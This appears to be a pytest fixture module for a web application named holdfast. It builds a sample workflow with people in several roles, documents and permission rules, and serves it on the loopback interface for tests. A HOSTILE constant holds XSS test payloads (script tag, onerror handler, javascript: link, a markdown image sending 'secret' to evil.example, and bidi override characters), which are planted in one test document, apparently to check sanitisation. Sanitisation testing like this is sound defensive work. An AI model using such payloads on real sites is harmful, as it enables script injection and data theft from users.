"""A small workflow behind the real server on the loopback interface, with people of every role."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx2
import pytest

import holdfast
from holdfast.domain.access import Principal
from holdfast.session import Flow
from holdfast.web.people import Person, Role, declared_people
from holdfast.web.serving import listening, serve, url_of
from holdfast.web.workbench import Desk, Workbench

SSE = {"accept": "text/event-stream"}
QUESTION = "How tight are the gland bolts of the HX-200?"
HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)> [link](javascript:alert(3)) "
    "![x](https://evil.example/?q=secret) \u202eevil\u202c"
)
DECLARATION = """\
name: desk
embedding: {model: lsa}
sources: [{files: documents}]
deciding:
  rules:
    - name: personal-harm
      when: any_word('injury', 'injured')
      then: escalate
      to: product-safety
      because: A report in which a person was harmed goes to product safety.
    - name: large-claim
      when: fields.claim_eur > 10000
      then: escalate
      to: product-safety
      because: Large claims are decided by people.
    - name: which-pump
      when: any_word('which')
      then: ask
      say: Which pump do you mean?
      options: [HX-200, HX-250]
      because: The pump is not named.
  routes:
    product-safety: {contact: safety@example.com}
"""
WORKSPACE = """\
people:
  - {name: ana, groups: [service], role: asker}
  - {name: ben, role: asker}
  - {name: rita, groups: [service], role: reviewer}
  - {name: emil, groups: [service, sales], role: engineer}
  - {name: kim, groups: [service, sales], role: owner}
"""
DOCUMENTS = {
    "gland.md": "# Gland\n\nTighten the gland bolts of the HX-200 to 35 Nm.\n",
    "warranty.md": "# Warranty\n\nThe warranty of the HX-200 pump lasts 24 months from delivery.\n",
    "hostile.md": f"# Mixer {HOSTILE}\n\nThe mixer of the HX-999 {HOSTILE} turns at 77 rpm.\n",
    "service/notes.md": "# Notes\n\nThe hidden valve of the KD-7 opens at 9 bar.\n",
    "pricing/list.md": "# Price list\n\nThe HX-200 pump costs 1,940 EUR.\n",
    "permissions.yaml": '"**": [everyone]\n"service/**": [service]\n"pricing/**": [sales]\n',
}


def write_workflow(
    folder: Path, *, more: str = "", workspace: str = WORKSPACE, documents: Mapping[str, str] = DOCUMENTS
) -> Path:
    """Write a workflow's folder with people."""
    (folder / "documents").mkdir(parents=True, exist_ok=True)
    (folder / "workflow.yaml").write_text(DECLARATION + more, encoding="utf-8")
    (folder / "holdfast.yaml").write_text(workspace, encoding="utf-8")
    for name, text in documents.items():
        path = folder / "documents" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return folder


def plain_client(url: str, **more: Any) -> httpx2.Client:
    """Return a client of a server without TLS: certificates would be read for each one, 30 ms."""
    return httpx2.Client(base_url=url, timeout=30, verify=False, **more)


@dataclass(slots=True)
class Served:
    """A server that runs in a thread of its own."""

    url: str
    flow: Flow
    folder: Path
    clients: list[httpx2.Client] = field(default_factory=list)

    def client(self, person: str = "kim", **headers: str) -> httpx2.Client:
        """Return a client as this person; empty: nobody has been chosen."""
        cookies = {"holdfast_person": person} if person else {}
        made = plain_client(self.url, cookies=cookies, headers=headers)
        self.clients.append(made)
        return made

    def ask(self, question: str = QUESTION, *, person: str = "kim", **more: Any) -> Any:
        """Return the JSON answer."""
        answer = self.client(person).post("/api/items", json={"question": question, **more})
        assert answer.status_code == 200, answer.text
        return answer.json()

    def events(self, person: str = "kim", **body: Any) -> list[Any]:
        """Return every event of a streamed answer; the last is the text `[DONE]`."""
        headers = {"accept": "text/event-stream"}
        answer = self.client(person).post("/api/items", json=body, headers=headers)
        assert answer.status_code == 200, answer.text
        lines = [line.removeprefix("data: ") for line in answer.text.split("\n\n") if line]
        return [line if line == "[DONE]" else json.loads(line) for line in lines]


@contextmanager
def served(folder: Path, *, change: Callable[[Workbench], Workbench] = lambda one: one) -> Iterator[Served]:
    """Sync a workflow and serve it until the block ends."""
    started, ended, failure = threading.Event(), asyncio.Event(), []
    made: list[Served] = []
    loop = asyncio.new_event_loop()
    listener = listening(0)

    async def main() -> None:
        async with holdfast.open(folder) as flow:
            await flow.sync()
            workbench = Workbench(
                desks={folder.name: Desk(name=folder.name, flow=flow)},
                local=Person(principal=Principal(user="local"), role=Role.OWNER),
                people=declared_people(flow.wiring.workspace.people),
            )
            made.append(Served(url=url_of(listener).rstrip("/"), flow=flow, folder=folder))
            await serve(change(workbench), listener, ready=started.set, until=ended)

    def run() -> None:
        try:
            loop.run_until_complete(main())
        except BaseException as error:  # noqa: BLE001 -- told by the test that waits
            failure.append(error)
        finally:
            loop.close()
            started.set()

    thread = threading.Thread(target=run)
    thread.start()
    started.wait(60)
    if failure:
        raise failure[0]
    try:
        yield made[0]
    finally:
        for client in made[0].clients:
            client.close()
        loop.call_soon_threadsafe(ended.set)
        thread.join(30)
        listener.close()
    assert not thread.is_alive()


def up(folder: Path, home: Path, *words: str, **environment: str) -> tuple[subprocess.Popen[str], str]:
    """Start the command; return the process with the URL it printed."""
    process = subprocess.Popen(
        [sys.executable, "-m", "holdfast", "up", str(folder), "--port", "0", *words],
        env=os.environ | {"HOLDFAST_HOME": str(home), "A_KEY": "k"} | environment, start_new_session=True,
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    assert process.stdout is not None
    url = process.stdout.readline().strip().rstrip("/")
    assert url, process.communicate(timeout=20)[1]
    return process, url


def ended(process: subprocess.Popen[str]) -> None:
    """Interrupt the command and wait until it has ended."""
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=60)


@pytest.fixture(scope="session")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """Return a served workflow that tests ask and read, and leave as it is otherwise."""
    root = tmp_path_factory.mktemp("web")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOLDFAST_HOME", str(root / "home"))
        patch.setenv("HOLDFAST_TRUST_FILE", str(root / "trust.json"))
        with served(write_workflow(root / "desk")) as one:
            yield one


def chromium() -> str:
    """Return the browser's path, empty where there is none."""
    return shutil.which("chromium") or ""
